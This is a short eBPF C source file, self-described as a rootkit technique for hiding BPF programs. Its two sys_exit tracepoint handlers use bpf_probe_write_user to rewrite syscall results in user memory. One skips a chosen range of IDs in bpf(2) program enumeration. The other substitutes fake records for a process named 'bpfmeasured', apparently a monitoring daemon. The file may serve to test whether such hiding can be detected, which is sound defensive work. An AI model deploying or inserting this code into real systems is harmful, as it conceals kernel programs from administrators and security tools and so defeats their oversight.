// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* A rootkit's way to hide BPF programs: when a system call returns, its answer is changed in the memory of
 * whoever asked. Nothing in the kernel is. */
#include "bpf/event.h"

#include <bpf/bpf_core_read.h>
#include <bpf/bpf_helpers.h>
#include <bpf/bpf_tracing.h>

enum { NR_READ = 0, NR_BPF = 321, GET_NEXT_ID = 11, NEXT_ID_OFFSET = 4 };

char LICENSE[] SEC("license") = "Dual BSD/GPL";

/* Ids that bpf(2) does not tell, and those that the daemon does not read from its iterator. */
struct {
	__u32 first, last;
} ids, records;

struct event_prog shown SEC(".bss.shown"); /* the last one that was not hidden */

struct pt_regs {
	unsigned long di, si, orig_ax;
} __attribute__((preserve_access_index));

SEC("tp_btf/sys_exit")
int BPF_PROG(hide_ids, struct pt_regs *regs, long ret)
{
	void *attr = (void *)regs->si;
	__u32 id;

	if (ret || regs->orig_ax != NR_BPF || regs->di != GET_NEXT_ID ||
		bpf_probe_read_user(&id, sizeof(id), attr + NEXT_ID_OFFSET) || id < ids.first ||
		id > ids.last)
		return 0;
	id = ids.last + 1;
	bpf_probe_write_user(attr + NEXT_ID_OFFSET, &id, sizeof(id));
	return 0;
}

SEC("tp_btf/sys_exit")
int BPF_PROG(hide_records, struct pt_regs *regs, long ret)
{
	void *buffer = (void *)regs->si;
	char comm[EVENT_NAME_LEN];
	struct event_prog prog;

	if (ret != sizeof(prog) || regs->orig_ax != NR_READ ||
		bpf_get_current_comm(comm, sizeof(comm)) || bpf_strncmp(comm, 11, "bpfmeasured") ||
		bpf_probe_read_user(&prog, sizeof(prog), buffer))
		return 0;
	if (prog.id < records.first || prog.id > records.last) {
		shown = prog;
		return 0;
	}
	shown.map_count = prog.map_count; /* that many records of maps follow */
	bpf_probe_write_user(buffer, &shown, sizeof(shown));
	return 0;
}
